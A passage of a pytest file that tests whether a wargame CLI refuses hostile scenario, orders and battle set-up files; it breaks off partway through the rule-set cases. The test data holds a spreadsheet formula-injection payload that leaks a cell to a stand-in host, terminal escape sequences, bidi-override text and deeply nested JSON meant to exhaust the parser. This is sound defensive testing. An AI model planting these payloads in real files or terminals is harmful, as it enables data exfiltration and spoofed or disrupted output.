"""Hostile files through the real entry points (issue 12, "Trust the game file").

Scenario folders go through ``seacontrol-cli validate``, orders through ``seacontrol-cli
orders GAME NATION FILE --check``, battle set-ups through ``seacontrol-cli battle`` and
``seacontrol-cli odds`` for each of the four rule sets. Every hostile file is refused with
exit code 1 and a message naming the file and the field (and the row, or the order) — never
a traceback — and every legal one among them (a byte-order mark, CRLF line ends, a set-up
fought by another rule set) is accepted with exit code 0. Each case is named for what it
breaks; the files are made here, from the mini scenario and the built-in set-ups.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from campaign.cli import main
from campaign.csvdata import MAX_FILE_BYTES
from campaign.events import Event
from campaign.gamefile import opened
from campaign.schemas import TABLES
from campaign.tactical import builtin_battles

MINI = Path(__file__).parent / "fixtures" / "mini"

#: a ship and an air group for the mini scenario, so ships.csv and air_groups.csv are tried
SHIPS = (
    "id,name,nation,unit,type,class,tonnage,completed,speed,guns,aa,belt,deck,turret,"
    "torpedo_tubes,notes\n"
    "blue_one,Blue One,blue,blue_cv1,carrier,Blue class,20000,1938,32.5,5in:8,24,4,1.5,0,0,"
    "the first\n"
)
AIR_GROUPS = "id,ship,kind,model,aircraft,notes\nblue_one_vf,blue_one,fighter,F4F Wildcat,18,\n"

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
ARABIC_THREE = "\u0663"  # '٣', ARABIC-INDIC DIGIT THREE: int() reads it as 3


def cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    """Run the command line as a person would; its exit code and everything it printed."""
    code = main(list(args))
    out, err = capsys.readouterr()
    text = out + err
    assert "Traceback" not in text
    return code, text


# -- scenario folders ----------------------------------------------------------------------
@dataclass(frozen=True)
class Edit:
    """One hostile change to a scenario folder, and the words its message must hold."""

    name: str
    apply: Callable[[Path], None]
    expect: tuple[str, ...]
    code: int = 1


def _rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _write_rows(path: Path, rows: list[list[str]]) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8", newline="")


def set_cell(file: str, column: str, value: str, row: int = 1) -> Callable[[Path], None]:
    """Put ``value`` in ``column`` of data row ``row`` (spreadsheet row ``row + 1``)."""

    def apply(folder: Path) -> None:
        rows = _rows(folder / file)
        rows[row][rows[0].index(column)] = value
        _write_rows(folder / file, rows)

    return apply


def write_bytes(file: str, data: bytes) -> Callable[[Path], None]:
    def apply(folder: Path) -> None:
        target = folder / file
        if target.is_dir():
            shutil.rmtree(target)
        target.write_bytes(data)

    return apply


def transform(file: str, change: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def apply(folder: Path) -> None:
        (folder / file).write_bytes(change((folder / file).read_bytes()))

    return apply


def remove(file: str) -> Callable[[Path], None]:
    def apply(folder: Path) -> None:
        (folder / file).unlink()

    return apply


def make_directory(file: str) -> Callable[[Path], None]:
    def apply(folder: Path) -> None:
        (folder / file).unlink()
        (folder / file).mkdir()

    return apply


def _first_row(file: str) -> list[str]:
    if file == "ships.csv":
        return SHIPS.splitlines()[1].split(",")
    if file == "air_groups.csv":
        return AIR_GROUPS.splitlines()[1].split(",")
    return _rows(MINI / file)[1] if len(_rows(MINI / file)) > 1 else []


def _column_cases() -> Iterator[Edit]:
    """Every numeric and text column of every file the mini scenario fills: the values a
    careless or hostile hand puts in a cell."""
    for schema in TABLES:
        if not _first_row(schema.file):
            continue
        for col in schema.columns:
            where = (schema.file, "row 2", col.name)
            if col.kind in ("int", "decimal"):
                yield Edit(
                    f"{schema.file}:{col.name}:arabic-indic-digit",
                    set_cell(schema.file, col.name, ARABIC_THREE),
                    (*where, "is not an ASCII digit"),
                )
                yield Edit(
                    f"{schema.file}:{col.name}:5000-digits",
                    set_cell(schema.file, col.name, "9" * 5000),
                    (*where, "absurdly large"),
                )
                if col.maximum is not None:
                    over = col.maximum + 1
                    text = str(int(over)) if col.kind == "int" else f"{over:g}"
                    yield Edit(
                        f"{schema.file}:{col.name}:above-maximum",
                        set_cell(schema.file, col.name, text),
                        (*where, "too large"),
                    )
            elif col.kind == "text":
                yield Edit(
                    f"{schema.file}:{col.name}:spreadsheet-formula",
                    set_cell(schema.file, col.name, FORMULA),
                    (*where, "runs as a formula"),
                )
                yield Edit(
                    f"{schema.file}:{col.name}:terminal-escape",
                    set_cell(schema.file, col.name, "Blue\x1b[2J\x1b]0;pwned\x07"),
                    (*where, "control character \\x1b"),
                )
                yield Edit(
                    f"{schema.file}:{col.name}:too-long",
                    set_cell(schema.file, col.name, "x" * (col.max_length + 1)),
                    (*where, "characters long"),
                )


def _utf16(data: bytes) -> bytes:
    return data.decode("utf-8").encode("utf-16")


STRUCTURE_CASES = [
    Edit(
        "units.csv:utf16-root-cause-first",
        transform("units.csv", _utf16),
        ("units.csv: is UTF-16 text", "fix units.csv first"),
    ),
    Edit(
        "units.csv:latin1",
        transform(
            "units.csv",
            lambda d: d.replace(b"two carriers", "deux porte-avions é".encode("latin-1")),
        ),
        ("units.csv", "is not UTF-8 text"),
    ),
    Edit(
        "units.csv:nul-bytes",
        transform("units.csv", lambda d: d + b"\x00\x00"),
        ("units.csv", "NUL"),
    ),
    Edit("units.csv:missing", remove("units.csv"), ("units.csv", "is missing")),
    Edit("units.csv:a-directory", make_directory("units.csv"), ("units.csv", "is missing")),
    Edit("units.csv:empty", write_bytes("units.csv", b""), ("units.csv", "is empty")),
    Edit(
        "units.csv:misspelt-column",
        transform("units.csv", lambda d: d.replace(b",name,", b",nme,", 1)),
        ("units.csv", "row 1", "nme", "did you mean 'name'"),
    ),
    Edit(
        "units.csv:column-twice",
        transform("units.csv", lambda d: d.replace(b",notes\n", b",notes,notes\n", 1)),
        ("units.csv", "appears twice"),
    ),
    Edit(
        "units.csv:extra-cells",
        transform("units.csv", lambda d: d.replace(b"two carriers", b"two,carriers,more")),
        ("units.csv", "row 2", "unquoted comma"),
    ),
    Edit(
        "units.csv:unterminated-quote",
        transform("units.csv", lambda d: d.replace(b"two carriers", b'"two carriers')),
        ("units.csv", "cannot be read as CSV"),
    ),
    Edit(
        "units.csv:larger-than-allowed",
        transform("units.csv", lambda d: d + b"#" * (MAX_FILE_BYTES + 1)),
        ("units.csv", "the most a scenario file may be"),
    ),
    Edit(
        "units.csv:one-huge-cell",
        transform("units.csv", lambda d: d.replace(b"two carriers", b"y" * 200_000)),
        ("units.csv", "row 2"),
    ),
    Edit(
        "units.csv:byte-order-mark-is-legal",
        transform("units.csv", lambda d: b"\xef\xbb\xbf" + d),
        (),
        0,
    ),
    Edit(
        "units.csv:crlf-is-legal",
        transform("units.csv", lambda d: d.replace(b"\n", b"\r\n")),
        (),
        0,
    ),
    Edit(
        "units.csv:duplicate-id",
        transform("units.csv", lambda d: d + b"blue_cv1,blue,escort,Again,blue_port,ready,no,\n"),
        ("units.csv", "row 7", "duplicate of row 2"),
    ),
    Edit(
        "units.csv:bidi-override-in-name",
        set_cell("units.csv", "name", "Blue \u202eseirrac"),
        ("units.csv", "row 2", "bidirectional control"),
    ),
    Edit(
        "units.csv:formula-after-spaces",
        set_cell("units.csv", "name", "   @SUM(A1:A9)"),
        ("units.csv", "row 2", "runs as a formula"),
    ),
    Edit(
        "units.csv:name-over-two-lines",
        set_cell("units.csv", "name", "Blue\nCarriers"),
        ("units.csv", "row 2", "name", "more than one line"),
    ),
    Edit(
        "units.csv:name-with-a-tab",
        set_cell("units.csv", "name", "Blue\tCarriers"),
        ("units.csv", "row 2", "name", "control character \\x09"),
    ),
    Edit(
        "units.csv:notes-over-two-lines-are-legal",
        set_cell("units.csv", "notes", "two carriers\nat sea"),
        (),
        0,
    ),
    Edit(
        "units.csv:rows-are-counted-as-a-spreadsheet-counts-them",
        lambda folder: (
            set_cell("units.csv", "notes", "one\ntwo\nthree")(folder),
            set_cell("units.csv", "state", "sunk", row=2)(folder),
        ),
        ("units.csv, row 3, field 'state'",),
    ),
    Edit(
        "units.csv:tab-start",
        set_cell("units.csv", "notes", "\tcmd"),
        ("units.csv", "row 2", "notes"),
    ),
    Edit(
        "ships.csv:unknown-unit",
        set_cell("ships.csv", "unit", "nobody"),
        ("ships.csv", "row 2", "unit", "not a unit in units.csv"),
    ),
    Edit(
        "ships.csv:guns-not-a-number",
        set_cell("ships.csv", "guns", "8in:x 5in"),
        ("ships.csv", "row 2", "guns", "'x' is not a number of guns"),
    ),
    Edit(
        "ships.csv:guns-not-a-calibre",
        set_cell("ships.csv", "guns", "big:3"),
        ("ships.csv", "row 2", "guns", "not a calibre"),
    ),
    Edit(
        "ships.csv:guns-arabic-digit",
        set_cell("ships.csv", "guns", f"{ARABIC_THREE}in:2"),
        ("ships.csv", "row 2", "guns", "not a calibre"),
    ),
    Edit(
        "ships.csv:guns-absurd-calibre",
        set_cell("ships.csv", "guns", "99in:2"),
        ("ships.csv", "row 2", "guns", "naval gun's calibre"),
    ),
    Edit(
        "routes.csv:serial-twice",
        set_cell("routes.csv", "serial", "1", row=2),
        ("routes.csv", "row 3", "serial", "already the serial of 'blue_home'"),
    ),
    Edit(
        "bases.csv:longitude-500",
        set_cell("bases.csv", "lon", "500"),
        ("bases.csv", "row 2", "lon", "from -180 to 180"),
    ),
    Edit(
        "bases.csv:latitude-minus-91",
        set_cell("bases.csv", "lat", "-91"),
        ("bases.csv", "row 2", "lat", "too small"),
    ),
    Edit(
        "bases.csv:decimal-infinity",
        set_cell("bases.csv", "lon", "inf"),
        ("bases.csv", "row 2", "lon", "not a finite number"),
    ),
    Edit(
        "bases.csv:underscore-number",
        set_cell("bases.csv", "lat", "5_1"),
        ("bases.csv", "row 2", "lat", "not a number"),
    ),
    Edit(
        "bases.csv:id-with-escape",
        set_cell("bases.csv", "id", "blue\x1b[31m"),
        ("bases.csv", "row 2", "id", "\\x1b"),
    ),
    Edit(
        "sea_areas.csv:polygon-arabic-digits",
        set_cell("sea_areas.csv", "polygon", f"-20,40 0,40 0,60 -20,6{ARABIC_THREE}"),
        ("sea_areas.csv", "row 2", "polygon", "not an ASCII digit"),
    ),
    Edit(
        "nations.csv:unreadable-nations-first",
        transform("nations.csv", _utf16),
        ("nations.csv: is UTF-16 text", "fix nations.csv first"),
    ),
    Edit(
        "scenario.toml:nested-10000-deep",
        write_bytes("scenario.toml", b"id = " + b"[" * 10_000 + b"]" * 10_000 + b"\n"),
        ("scenario.toml", "nested too deeply"),
    ),
    Edit(
        "scenario.toml:5000-digit-turn",
        transform(
            "scenario.toml", lambda d: d.replace(b"last_turn = 3", b"last_turn = " + b"9" * 5000)
        ),
        ("scenario.toml", "a number in it is absurdly large"),
    ),
    Edit(
        "scenario.toml:20-digit-turn",
        transform(
            "scenario.toml", lambda d: d.replace(b"last_turn = 3", b"last_turn = " + b"9" * 18)
        ),
        ("scenario.toml", "last_turn", "absurdly large"),
    ),
    Edit(
        "scenario.toml:lone-surrogate",
        transform("scenario.toml", lambda d: d.replace(b'"Mini test scenario"', b'"Mini \\ud800"')),
        ("scenario.toml", "line 2", "not a Unicode scalar value"),
    ),
    Edit(
        "scenario.toml:terminal-escape",
        transform(
            "scenario.toml", lambda d: d.replace(b'"Mini test scenario"', b'"Mini \\u001b[2J"')
        ),
        ("scenario.toml", "name", "control character"),
    ),
    Edit(
        "scenario.toml:not-utf8",
        transform(
            "scenario.toml", lambda d: d.replace(b"A four-area", "Une mer à".encode("latin-1"))
        ),
        ("scenario.toml", "not UTF-8"),
    ),
    Edit(
        "scenario.toml:huge-description",
        transform("scenario.toml", lambda d: d.replace(b"A four-area", b"x" * 100_000)),
        ("scenario.toml", "more than"),
    ),
    Edit(
        "scenario.toml:arabic-digit",
        transform("scenario.toml", lambda d: d.replace(b"last_turn = 3", "last_turn = ٣".encode())),
        ("scenario.toml", "not valid TOML"),
    ),
]


@pytest.fixture(scope="module")
def hostile_base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini scenario with a ship and an air group, so every file has a row to break."""
    folder = tmp_path_factory.mktemp("base") / "mini"
    shutil.copytree(MINI, folder)
    (folder / "ships.csv").write_text(SHIPS, encoding="utf-8")
    (folder / "air_groups.csv").write_text(AIR_GROUPS, encoding="utf-8")
    return folder


SCENARIO_CASES = [*_column_cases(), *STRUCTURE_CASES]


def test_the_base_of_the_hostile_scenarios_is_valid(
    hostile_base: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(capsys, "validate", str(hostile_base))[0] == 0


@pytest.mark.parametrize("edit", SCENARIO_CASES, ids=[e.name for e in SCENARIO_CASES])
def test_a_hostile_scenario_is_refused_by_validate(
    edit: Edit, hostile_base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "scenario"
    shutil.copytree(hostile_base, folder)
    edit.apply(folder)
    code, text = cli(capsys, "validate", str(folder))
    assert code == edit.code, text
    for words in edit.expect:
        assert words in text, f"{words!r} not in:\n{text[:2000]}"
    if code:
        assert "\x1b" not in text and "\u202e" not in text  # nothing hostile reaches a terminal


def test_the_root_cause_comes_first_and_its_follow_ons_are_summarised(
    hostile_base: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """units.csv cannot be read: that is the first line, and the rows of other files that
    refer to units are one note, not one problem each."""
    folder = tmp_path / "scenario"
    shutil.copytree(hostile_base, folder)
    transform("units.csv", _utf16)(folder)
    code, text = cli(capsys, "validate", str(folder), "--json")
    problems = json.loads(text)["problems"]
    assert code == 1 and problems[0]["file"] == "units.csv"
    assert not [p for p in problems if "not a unit" in p["message"]]
    notes = [p for p in problems if p["severity"] == "note"]
    assert [(n["file"], n["field"]) for n in notes] == [("ships.csv", "unit")]


def test_there_are_enough_hostile_scenarios() -> None:
    assert len(SCENARIO_CASES) >= 100


# -- orders ---------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def game(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("game") / "mini.seacontrol"
    assert main(["new", str(MINI), "-o", str(path)]) == 0
    return path


def _orders(**fields: Any) -> bytes:
    return json.dumps({"nation": "blue", "turn": 1, **fields}).encode()


def _raw(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def _nested(depth: int, inner: str = "1") -> bytes:
    return (
        '{"nation": "blue", "turn": 1, "notes": ' + "[" * depth + inner + "]" * depth + "}"
    ).encode()


TF = {"id": "tf1", "name": "Force", "base": "blue_port", "units": ["blue_bb1"]}

#: (name, file content, words the message must hold); the legal ones expect exit code 0
ORDERS_CASES: list[tuple[str, bytes, tuple[str, ...], int]] = [
    ("array-nested-10000-deep", b"[" * 10_000 + b"]" * 10_000, ("nested more than 10 deep",), 1),
    (
        "object-nested-10000-deep",
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        ("nested more than",),
        1,
    ),
    ("notes-nested-50-deep", _nested(50), ("nested more than",), 1),
    ("brackets-in-text-are-not-nesting", _orders(notes="[" * 50), (), 0),
    ("notes-20-megabytes", _orders(notes="x" * 20 * 1024 * 1024), ("bytes; at most",), 1),
    ("notes-200000-characters", _orders(notes="x" * 200_000), ("notes", "characters long"), 1),
    (
        "name-1-megabyte",
        _orders(task_forces=[{**TF, "name": "n" * 1_000_000}]),
        ("task_forces[0].name", "characters long"),
        1,
    ),
    (
        "name-300-characters",
        _orders(task_forces=[{**TF, "name": "n" * 300}]),
        ("task_forces[0].name", "at most 200"),
        1,
    ),
    (
        "id-1-megabyte",
        _orders(task_forces=[{**TF, "id": "i" * 1_000_000}]),
        ("task_forces[0].id", "characters long"),
        1,
    ),
    ("nation-a-number", _orders(nation=7), ("nation", "must be text, not a number (7)"), 1),
    ("nation-a-list", _orders(nation=[]), ("nation", "must be text, not a list"), 1),
    ("nation-null", _orders(nation=None), ("nation", "must be text, not null"), 1),
    ("nation-true", _orders(nation=True), ("nation", "must be text, not true"), 1),
    ("nation-empty", _orders(nation=""), ("nation", "is missing"), 1),
    ("nation-another-team", _orders(nation="red"), ("nation", "the file is for 'red'"), 1),
    ("nation-1-megabyte", _orders(nation="b" * 1_000_000), ("nation", "characters long"), 1),
    ("turn-as-text", _orders(turn="1"), ("turn", "must be a whole number"), 1),
    ("turn-arabic-digit", _orders(turn=ARABIC_THREE), ("turn", "must be a whole number"), 1),
    ("turn-a-fraction", _orders(turn=1.5), ("turn", "not a number (1.5)"), 1),
    ("turn-negative", _orders(turn=-1), ("turn", "≥ 0"), 1),
    ("turn-true", _orders(turn=True), ("turn", "not true"), 1),
    (
        "turn-5000-digits",
        b'{"nation": "blue", "turn": ' + b"9" * 5000 + b"}",
        ("turn", "absurdly large"),
        1,
    ),
    (
        "turn-16-digits",
        b'{"nation": "blue", "turn": ' + b"9" * 16 + b"}",
        ("turn", "absurdly large"),
        1,
    ),
    ("turn-99999", _orders(turn=99_999), ("turn", "absurdly large (at most 10,000)"), 1),
    ("turn-1e400", b'{"nation": "blue", "turn": 1e400}', ("turn", "absurdly large"), 1),
    (
        "turn-NaN",
        b'{"nation": "blue", "turn": NaN}',
        ("turn", "NaN is not a number JSON allows"),
        1,
    ),
    (
        "turn-Infinity",
        b'{"nation": "blue", "turn": -Infinity}',
        ("turn", "not a number JSON allows"),
        1,
    ),
    ("turn-given-twice", b'{"nation": "blue", "turn": 1, "turn": 2}', ("turn", "given twice"), 1),
    (
        "notes-lone-surrogate",
        _raw('{"nation": "blue", "turn": 1, "notes": "\\ud800"}'),
        ("notes", "lone surrogate"),
        1,
    ),
    (
        "name-lone-surrogate",
        _orders(task_forces=[{**TF, "name": "x"}]).replace(b'"x"', b'"\\udc00x"'),
        ("task_forces[0].name", "lone surrogate"),
        1,
    ),
    (
        "key-lone-surrogate",
        _raw('{"nation": "blue", "turn": 1, "\\ud800": 1}'),
        ("lone surrogate",),
        1,
    ),
    (
        "name-terminal-escape",
        _orders(task_forces=[{**TF, "name": "F\x1b[2J\x1b[31m"}]),
        ("task_forces[0].name", "\\x1b"),
        1,
    ),
    (
        "name-bidi-override",
        _orders(task_forces=[{**TF, "name": "F\u202eecrof"}]),
        ("task_forces[0].name", "bidirectional"),
        1,
    ),
    (
        "name-nul",
        _orders(task_forces=[{**TF, "name": "F\x00"}]),
        ("task_forces[0].name", "\\x00"),
        1,
    ),
    ("key-terminal-escape", _orders(**{"\x1b]0;pwned\x07": 1}), ("\\x1b]0;pwned\\x07",), 1),
    ("key-1000-characters", _orders(**{"k" * 1000: 1}), ("too long a key",), 1),
    ("unknown-kind-of-order", _orders(colour="red"), ("colour", "is not a kind of order"), 1),
    (
        "unknown-field-in-order",
        _orders(task_forces=[{**TF, "colour": "red"}]),
        ("task_forces[0].colour", "is not a field here"),
        1,
    ),
    ("task-forces-not-a-list", _orders(task_forces={"a": 1}), ("task_forces", "must be a list"), 1),
    (
        "task-forces-of-numbers",
        _orders(task_forces=[1, 2]),
        ("task_forces[0]", "must be an object"),
        1,
    ),
    (
        "units-of-numbers",
        _orders(task_forces=[{**TF, "units": [1]}]),
        ("task_forces[0].units[0]", "must be an id"),
        1,
    ),
    (
        "5000-task-forces",
        _orders(task_forces=[TF] * 5000),
        ("task_forces", "5,000 items; at most 1,000"),
        1,
    ),
    (
        "tonnage-arabic-digit",
        _orders(tonnage={"blue_home": ARABIC_THREE}),
        ("tonnage.blue_home", "whole number"),
        1,
    ),
    (
        "tonnage-huge",
        _orders(tonnage={"blue_home": 10**12}),
        ("tonnage.blue_home", "absurdly large"),
        1,
    ),
    (
        "stance-a-number",
        _orders(task_forces=[{**TF, "stance": 7}]),
        ("task_forces[0].stance", "is not one of"),
        1,
    ),
    (
        "card-use-unknown",
        _orders(cards=[{"card": "blue_radar", "use": "win"}]),
        ("cards[0].use", "is not one of"),
        1,
    ),
    ("notes-a-number", _orders(notes=3), ("notes", "must be text, not a number"), 1),
    ("not-utf8", b'{"nation": "blue", "turn": 1, "notes": "\xe9"}', ("not UTF-8",), 1),
    ("utf16", _orders().decode().encode("utf-16"), ("not UTF-8",), 1),
    ("empty-file", b"", ("not valid JSON",), 1),
    ("truncated", _orders()[:-5], ("not valid JSON",), 1),
    ("a-list-not-an-object", b"[]", ("must be an object",), 1),
    ("a-string-not-an-object", b'"orders"', ("must be an object",), 1),
    ("byte-order-mark-is-legal", b"\xef\xbb\xbf" + _orders(), (), 0),
    ("plain-orders-are-legal", _orders(notes="Nothing this turn; all's well."), (), 0),
]


@pytest.mark.parametrize(
    ("data", "expect", "code"),
    [c[1:] for c in ORDERS_CASES],
    ids=[c[0] for c in ORDERS_CASES],
)
def test_hostile_orders_are_refused_by_the_check(
    data: bytes,
    expect: tuple[str, ...],
    code: int,
    game: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / "orders.json"
    path.write_bytes(data)
    got, text = cli(capsys, "orders", str(game), "blue", str(path), "--check")
    assert got == code, text[:2000]
    for words in expect:
        assert words in text, f"{words!r} not in:\n{text[:2000]}"
    if code:
        assert "Orders refused" in text and "\x1b" not in text and "\u202e" not in text


def test_hostile_orders_as_json_name_every_problem(
    game: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every problem at once, each with its order path, however many there are."""
    path = tmp_path / "orders.json"
    path.write_bytes(_orders(nation=7, turn=-1, notes=3, colour="red"))
    code, text = cli(capsys, "orders", str(game), "blue", str(path), "--check", "--json")
    orders = {p["order"] for p in json.loads(text)["problems"]}
    assert code == 1 and {"nation", "orders.turn", "orders.notes", "colour"} <= orders


CHOICES_CASES: list[tuple[str, bytes, str]] = [
    ("nested-10000-deep", b"[" * 10_000 + b"]" * 10_000, "nested more than 10 deep"),
    ("5000-digit-number", b'{"blue": {"losses": ' + b"9" * 5000 + b"}}", "absurdly large"),
    ("lone-surrogate", b'{"blue": {"losses": ["\\ud800"]}}', "lone surrogate"),
    ("not-json", b"{blue", "not a JSON choices file"),
    ("unknown-nation", b'{"\\u001b[2Jmauve": {}}', "\\x1b[2J"),
]


@pytest.mark.parametrize(
    ("data", "words"), [c[1:] for c in CHOICES_CASES], ids=[c[0] for c in CHOICES_CASES]
)
def test_a_hostile_choices_file_is_refused_by_resolve(
    data: bytes, words: str, game: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "choices.json"
    path.write_bytes(data)
    code, text = cli(capsys, "resolve", str(game), "--allow-empty", "--choices", str(path))
    assert code == 1 and "choices.json" in text and words in text, text[:2000]
    assert "\x1b" not in text


# -- battle set-ups ---------------------------------------------------------------------------
BUILT_IN = {
    "carrier": "midway",
    "fastplay": "fastplay-example",
    "surface": "surface-example",
    "airstrike": "airstrike-example",
}


def _setup(rule_set: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(builtin_battles()[BUILT_IN[rule_set]].read_text("utf-8"))
    return data


def _first_ship(data: dict[str, Any]) -> dict[str, Any]:
    side = "a" if data["a"]["ships"] else "b"
    ship: dict[str, Any] = data[side]["ships"][0]
    return ship


def _side_of_ships(data: dict[str, Any]) -> str:
    return "a" if data["a"]["ships"] else "b"


def _some_group(data: dict[str, Any]) -> tuple[str, dict[str, Any]]:
    """The path and object of an air group (a land-based one added if there is none)."""
    for key in ("a", "b"):
        for i, ship in enumerate(data[key]["ships"]):
            if ship.get("air_groups"):
                return f"{key}.ships[{i}].air_groups[0]", ship["air_groups"][0]
        if data[key].get("air_groups"):
            return f"{key}.air_groups[0]", data[key]["air_groups"][0]
    group = {"id": "extra_air", "kind": "level_bomber", "aircraft": 10}
    data["a"]["air_groups"] = [group]
    return "a.air_groups[0]", group


Mutation = Callable[[dict[str, Any]], str]  # changes a set-up; returns the field to name


def _ship_field(key: str, value: Any) -> Mutation:
    def apply(data: dict[str, Any]) -> str:
        _first_ship(data)[key] = value
        return f"{_side_of_ships(data)}.ships[0].{key}"

    return apply


def _condition(key: str, value: Any) -> Mutation:
    def apply(data: dict[str, Any]) -> str:
        data.setdefault("conditions", {})[key] = value
        return f"conditions.{key}"

    return apply


def _duplicate_ship(data: dict[str, Any]) -> str:
    side = _side_of_ships(data)
    ships = data[side]["ships"]
    copy = json.loads(json.dumps(ships[0]))
    for group in copy.get("air_groups", []):
        group["id"] += "_copy"
    ships.append(copy)
    return f"{side}.ships[{len(ships) - 1}].id"


def _group_field(key: str, value: Any) -> Mutation:
    def apply(data: dict[str, Any]) -> str:
        path, group = _some_group(data)
        group[key] = value
        return f"{path}.{key}"

    return apply


def _many_aircraft(data: dict[str, Any]) -> str:
    data["b"]["air_groups"] = [
        {"id": f"swarm{i}", "kind": "fighter", "aircraft": 1000} for i in range(6)
    ]
    return "aircraft in all"


def _ships_a_side(count: int) -> Mutation:
    def apply(data: dict[str, Any]) -> str:
        side = _side_of_ships(data)
        ship = data[side]["ships"][0]
        data[side]["ships"] = [{**ship, "id": f"s{i}", "air_groups": []} for i in range(count)]
        return f"{side}.ships"

    return apply


def _remove_title(data: dict[str, Any]) -> str:
    del data["title"]
    return "title"


#: (name, change, words) for every rule set: what a set-up of any rule set must not hold
COMMON_SETUP_CASES: list[tuple[str, Mutation, str]] = [
    ("ship-id-twice", _duplicate_ship, "is already the id of"),
    ("negative-damage", _ship_field("damage", -3), "from 0 to 1000"),
    ("unknown-ship-type", _ship_field("type", "spaceship"), "must be one of"),
    ("gun-calibre-not-a-calibre", _ship_field("guns", {"big": 3}), "not a calibre"),
    ("gun-calibre-arabic-digit", _ship_field("guns", {f"1{ARABIC_THREE}in": 3}), "not a calibre"),
    ("gun-count-negative", _ship_field("guns", {"8in": -2}), "number of guns"),
    ("tonnage-5000-digits", _ship_field("tonnage", "PLACEHOLDER_BIG"), "absurdly large"),
    ("speed-NaN", _ship_field("speed", "PLACEHOLDER_NAN"), "not a number JSON allows"),
    ("unknown-ship-field", _ship_field("colour", "grey"), "is not a field here"),
    ("ship-state-unknown", _ship_field("state", "exploded"), "must be one of"),
    ("ship-name-lone-surrogate", _ship_field("name", "PLACEHOLDER_SURROGATE"), "lone surrogate"),
    ("ship-name-terminal-escape", _ship_field("name", "H\x1b[2Jood"), "\\x1b"),
    ("ten-million-aircraft", _group_field("aircraft", 10_000_000), "from 0 to 1000"),
    ("aircraft-lost-beyond-aircraft", _group_field("lost", 999), "is more than its"),
    ("air-group-kind-unknown", _group_field("kind", "zeppelin"), "must be one of"),
    ("6000-aircraft-in-all", _many_aircraft, "a battle may have at most 5,000"),
    ("201-ships-a-side", _ships_a_side(201), "list of 0 to 200"),
    ("no-title", _remove_title, "is missing"),
    ("year-1800", _condition("year", 1800), "from 1900 to 1960"),
]

#: (name, change, words) each rule set's own conditions
RULE_SET_CASES: dict[str, list[tuple[str, Mutation, str]]] = {
    "carrier": [
        ("negative-turn-limit", _condition("turn_limit", -5), "from 1 to 200"),
        ("group-strength-zero", _condition("group_strength", 0), "from 1 to 50"),
        ("repair-cell-bad", _condition("repair", {"akagi": "x"}), "must be one of '6', '5-6'"),
        ("repair-cell-arabic", _condition("repair", {"akagi": ARABIC_THREE}), "must be one of"),
        (
            "repair-unknown-ship",
            _condition("repair", {"bismarck": "6"}),
            "not a ship of the battle",
        ),
        ("crippled-after-sunk", _condition("crippled_at", 12), "more than sunk_at"),
        ("commander-unknown-key", _condition("commander", {"boldness": 3}), "is not a field here"),
        ("dogfight-unknown", _condition("dogfight", "all"), "must be one of"),
        ("searching-side-c", _condition("searching_side", "c"), "must be one of"),
        ("cap-rings-zero", _condition("cap_rings", 0), "from 1 to 10"),
        ("search-groups-text", _condition("search_groups", "4"), "not text"),
    ],
    "fastplay": [
        ("negative-turn-limit", _condition("turn_limit", -5), "from 1 to 200"),
        ("intent-charge", _condition("intent", {"a": "charge"}), "must be one of"),
        ("intent-side-c", _condition("intent", {"c": "close"}), "not a side of the battle"),
        ("start-band-40", _condition("start_band", '40"'), "must be one of"),
        ("sector-7", _condition("sector", {"a": 7}), "from 1 to 6"),
        (
            "single-mounts-unknown-ship",
            _condition("single_mounts", ["bismarck"]),
            "not a ship of the battle",
        ),
        ("torpedo-salvos-negative", _condition("torpedo_salvos", {"japan": -1}), "from 0 to 10"),
        ("radar-yes", _condition("radar", "yes"), "true or false"),
        ("weather-stormy", _condition("weather", "stormy"), "must be one of"),
        ("strikes-zero", _condition("strikes", 0), "from 1 to 10"),
        ("start-range-huge", _condition("start_range", 10**9), "from 0 to 1000"),
    ],
    "surface": [
        ("negative-turn-limit", _condition("turn_limit", -5), "from 1 to 200"),
        ("weather-arctic", _condition("weather", "arctic"), "must be one of"),
        ("wind-up", _condition("wind", "Up"), "must be one of"),
        ("wind-speed-storm", _condition("wind_speed", "storm"), "must be one of"),
        ("orders-side-c", _condition("orders", {"c": "close"}), "not a side of the battle"),
        (
            "minefield-density-200",
            _condition("minefields", [{"x": [0, 1], "y": [0, 1], "density": 200}]),
            "from 0 to 100",
        ),
        ("minefield-without-box", _condition("minefields", [{"density": 40}]), "is missing"),
        ("turrets-empty", _condition("turrets", {"renown": []}), "list of 1 to 10"),
        ("length-zero", _condition("length_ft", {"renown": 0}), "from 1 to 1500"),
        ("break-off-two", _condition("break_off", 2), "from 0 to 1"),
        ("visibility-zero", _condition("visibility", 0), "from 1 to 1000"),
        ("51-ships-a-side", _ships_a_side(51), "the surface rules fight at most 50 a side"),
    ],
    "airstrike": [
        ("strikes-zero", _condition("strikes", 0), "from 1 to 20"),
        ("strikes-text", _condition("strikes", "2"), "not text"),
        ("air-drm-nine", _condition("air_drm", {"japan": 9}), "from -6 to 6"),
        (
            "naval-air-unknown-group",
            _condition("naval_air", ["nobody"]),
            "not a land-based air group",
        ),
        ("at-sea-yes", _condition("at_sea", "yes"), "true or false"),
